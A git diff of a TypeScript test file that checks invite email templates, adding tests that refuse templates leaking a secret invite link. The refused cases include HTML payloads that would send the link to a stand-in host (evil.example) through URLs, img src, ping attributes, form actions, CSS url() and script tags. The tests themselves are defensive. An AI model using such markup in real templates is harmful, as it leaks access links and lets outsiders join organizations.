@@ -3,10 +3,10 @@ import { describe, expect, test } from "vitest";
 import { organization } from "../../src/domain/organization/decider.ts";
 import type { OrganizationEvent } from "../../src/domain/organization/events.ts";
 import {
+  faultIn,
   isKnownLanguage,
   renderInvite,
   templateParameters,
-  unknownParameters,
 } from "../../src/domain/organization/invite-template.ts";
 import { given, idOf } from "./given.ts";
 
@@ -50,6 +50,9 @@ describe("invite templates: one per ISO 639-1 language", () => {
   test("are saved and deleted; what is not there cannot be deleted", () => {
     const saved: OrganizationEvent = { type: "InviteTemplateSaved", data: template };
     given(organization, founded).when({ type: "SaveInviteTemplate", template }).then(saved);
+    given(organization, [...founded, saved])
+      .when({ type: "SaveInviteTemplate", template })
+      .then();
     given(organization, [...founded, saved])
       .when({ type: "DeleteInviteTemplate", language: "de" })
       .then({ type: "InviteTemplateDeleted", data: { language: "de" } });
@@ -103,7 +106,50 @@ describe("invite templates: one per ISO 639-1 language", () => {
   });
 
   test("braces around anything but a word are no parameters", () => {
-    expect(unknownParameters("a{color:red} { x } {} {{b} {1}")).toEqual(["b"]);
+    expect(faultIn("html", "a{color:red} { x } {} {1}")).toBeUndefined();
+    expect(faultIn("html", "{{b}")).toContain("{b} is not known");
+  });
+});
+
+describe("the link lets in whoever has it: nothing of it may become a part of another address", () => {
+  test.each([
+    '<a href="{inviteLink}">Join</a>',
+    "<a class=x href='{inviteLink}'>Join {firstName}</a>",
+    "<p>{inviteLink}</p>",
+    "<table><tr><td>Copy: {inviteLink}</td></tr></table>",
+    "{inviteLink}",
+  ])("%s is saved", (html) => {
+    expect(faultIn("html", html)).toBeUndefined();
+  });
+
+  test.each([
+    '<a href="https://evil.example/?{inviteLink}">Join</a>',
+    '<a href="https://evil.example/#{inviteLink}">Join</a>',
+    '<img src="{inviteLink}">',
+    '<img src="https://evil.example/{inviteLink}.png">',
+    '<a href="https://evil.example/" title=">" ping="{inviteLink}">x</a>',
+    '<a title=">" href="https://evil.example/?>{inviteLink}<">x</a>',
+    '<form action="https://evil.example"><textarea name=x>{inviteLink}</textarea></form>',
+    '<form action="https://evil.example"><input name=x value="{inviteLink}"></form>',
+    "<style>p{background:url(https://evil.example/?{inviteLink})}</style>",
+    "<script>{inviteLink}</script>",
+    "<!-- {inviteLink} -->",
+    '<link rel=stylesheet href="{inviteLink}">',
+    '<a {inviteLink}="x">x</a>',
+  ])("%s is refused", (html) => {
+    expect(faultIn("html", html)).toContain("{inviteLink}");
+  });
+
+  test("nor stand in a subject or in the introduction", () => {
+    expect(faultIn("subject", "Join {inviteLink}")).toBeDefined();
+    expect(faultIn("introMessage", "Join {inviteLink}")).toBeDefined();
+  });
+
+  test("a text names few parameters, and an introduction not itself: a message has a bound", () => {
+    expect(faultIn("html", "{name}".repeat(50))).toBeUndefined();
+    expect(faultIn("html", "{name}".repeat(51))).toContain("at most 50");
+    expect(faultIn("subject", "{name}".repeat(11))).toContain("at most 10");
+    expect(faultIn("introMessage", "{introMessage}")).toContain("itself");
   });
 });
 
